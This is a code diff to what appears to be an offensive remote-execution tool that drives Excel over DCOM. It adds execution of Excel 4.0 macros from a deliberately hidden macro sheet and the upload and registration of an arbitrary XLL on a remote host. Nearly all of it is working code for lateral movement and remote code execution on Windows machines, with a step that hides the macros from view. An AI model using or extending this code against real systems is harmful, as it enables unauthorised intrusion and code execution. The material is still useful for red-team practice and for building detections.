@@ -4,12 +4,14 @@ import (
   "context"
   "errors"
   "fmt"
+  "io"
   "strings"
   "syscall"
 
   "github.com/FalconOpsLLC/goexec/internal/util"
   "github.com/FalconOpsLLC/goexec/pkg/goexec"
   "github.com/oiweiwei/go-msrpc/midl/uuid"
+  "github.com/oiweiwei/go-msrpc/msrpc/dcom/oaut"
   "github.com/oiweiwei/go-msrpc/msrpc/erref/hresult"
   "github.com/rs/zerolog"
 )
@@ -18,6 +20,9 @@ const (
   MethodExcelMacro     = "Excel:ExecuteExcel4Macro"
   MethodExcelXLL       = "Excel:RegisterXLL"
   ExcelApplicationUuid = "00020812-0000-0000-C000-000000000046"
+
+  // xlSheetHidden is the XlSheetVisibility value of hidden sheets
+  xlSheetHidden int32 = 0
 )
 
 type DcomExcel struct {
@@ -26,14 +31,23 @@ type DcomExcel struct {
 
 type DcomExcelMacro struct {
   DcomExcel
-  Macros      []string
-  MacroFile   string
+  Macros    []string
+  MacroFile string
+
+  // Sheet runs Macros as one routine from a hidden macro sheet instead of calling ExecuteExcel4Macro for each macro
+  Sheet bool
+
   NoTerminate bool
 }
 
 type DcomExcelXll struct {
   DcomExcel
   XllLocation string
+
+  // Stager uploads XllFile to XllLocation before it is registered, if set
+  Stager  goexec.InputStager
+  XllFile io.Reader
+
   NoTerminate bool
 }
 
@@ -80,6 +94,9 @@ func (m *DcomExcelMacro) Execute(ctx context.Context, execIO *goexec.ExecutionIO
       _ = m.quit(ctx)
     }()
   }
+  if m.Sheet {
+    return m.runMacroSheet(ctx, m.Macros)
+  }
   for _, macro := range m.Macros {
     // Call ExecuteExcel4Macro to execute macro
     log.Info().
@@ -99,8 +116,98 @@ func (m *DcomExcelMacro) Execute(ctx context.Context, execIO *goexec.ExecutionIO
   return
 }
 
+// runMacroSheet writes macros to the cells of a hidden Excel 4.0 macro sheet in a new workbook, then runs
+// them as one routine with Application.Run, so that state like variables and loops is kept between lines
+func (m *DcomExcel) runMacroSheet(ctx context.Context, macros []string) (err error) {
+  log := zerolog.Ctx(ctx)
+
+  var lines []string
+  for _, macro := range macros {
+    if macro = strings.TrimSpace(macro); macro == "" {
+      continue // An empty cell ends the routine
+    }
+    if !strings.HasPrefix(macro, "=") {
+      macro = "=" + macro
+    }
+    lines = append(lines, macro)
+  }
+  if len(lines) == 0 {
+    return errors.New("no macro provided")
+  }
+  if last := strings.ToUpper(lines[len(lines)-1]); !strings.HasPrefix(last, "=HALT(") && !strings.HasPrefix(last, "=RETURN(") {
+    lines = append(lines, "=HALT()")
+  }
+
+  wb, _, err := m.invokeObject(ctx, nil, "Workbooks.Add", DispatchMethod)
+  if err != nil {
+    return fmt.Errorf("add workbook: %w", err)
+  }
+  sheet, _, err := m.invokeObject(ctx, wb, "Excel4MacroSheets.Add", DispatchMethod)
+  if err != nil {
+    return fmt.Errorf("add macro sheet: %w", err)
+  }
+  if _, err = m.invoke(ctx, sheet, "Visible", DispatchPropertyPut,
+    newVariant(vtI4, &oaut.Variant_VarUnion{Value: &oaut.Variant_VarUnion_Long{Long: xlSheetHidden}})); err != nil {
+    log.Warn().Err(err).Msg("Failed to hide macro sheet")
+  }
+  log.Info().Int("lines", len(lines)).Msg("Writing macro sheet")
+
+  var start *oaut.Variant
+
+  for i, line := range lines {
+    cell, v, err := m.invokeObject(ctx, sheet, "Range", DispatchPropertyGet, stringToVariant(fmt.Sprintf("A%d", i+1)))
+    if err != nil {
+      return fmt.Errorf("get cell A%d: %w", i+1, err)
+    }
+    ir, err := m.invoke(ctx, cell, "Formula", DispatchPropertyPut, stringToVariant(line))
+    if err != nil {
+      return fmt.Errorf("set formula of cell A%d: %w", i+1, err)
+    }
+    if ir.Return != 0 {
+      return fmt.Errorf("set formula of cell A%d: %w", i+1, hresult.FromCode(uint32(ir.Return)))
+    }
+    if start == nil {
+      start = v
+    }
+  }
+  log.Info().
+    Str("call", "Run").
+    Msg("running macro sheet")
+
+  // Application.Run accepts the Range object where the routine starts
+  rr, err := m.callComMethod(ctx, nil, "Run", start)
+  if err != nil {
+    return fmt.Errorf("call Run: %w", err)
+  }
+  if rr.Return != 0 {
+    return fmt.Errorf("call Run: %w", hresult.FromCode(uint32(rr.Return)))
+  }
+  log.Info().Msg("Run call successful")
+  return
+}
+
+// stage uploads the XLL with Stager. The staged file is removed when the module is cleaned
+func (m *DcomExcelXll) stage(ctx context.Context) (err error) {
+  log := zerolog.Ctx(ctx).With().Str("path", m.XllLocation).Logger()
+
+  log.Info().Msg("Uploading XLL")
+  m.AddCleaners(m.Stager.Clean)
+
+  if err = m.Stager.Stage(ctx, m.XllFile); err != nil {
+    return fmt.Errorf("stage XLL: %w", err)
+  }
+  log.Info().Msg("XLL uploaded")
+  return
+}
+
 func (m *DcomExcelXll) Call(ctx context.Context) (err error) {
   log := zerolog.Ctx(ctx)
+
+  if m.Stager != nil {
+    if err = m.stage(ctx); err != nil {
+      return
+    }
+  }
   if !m.NoTerminate {
     defer func() {
       _ = m.quit(ctx)
@@ -111,7 +218,7 @@ func (m *DcomExcelXll) Call(ctx context.Context) (err error) {
     return fmt.Errorf("call RegisterXLL: %w", err)
   }
   log.Info().Msg("RegisterXLL call successful")
-  if stat, ok := qr.VarResult.VarUnion.GetValue().(bool); ok && stat {
+  if stat, ok := variantValue(qr.VarResult).(bool); ok && stat {
     log.Info().Bool("res", stat).Int32("return", qr.Return).Msg("XLL registered successfully")
   } else {
     log.Warn().Bool("res", stat).Int32("return", qr.Return).Msg("Execution may have failed")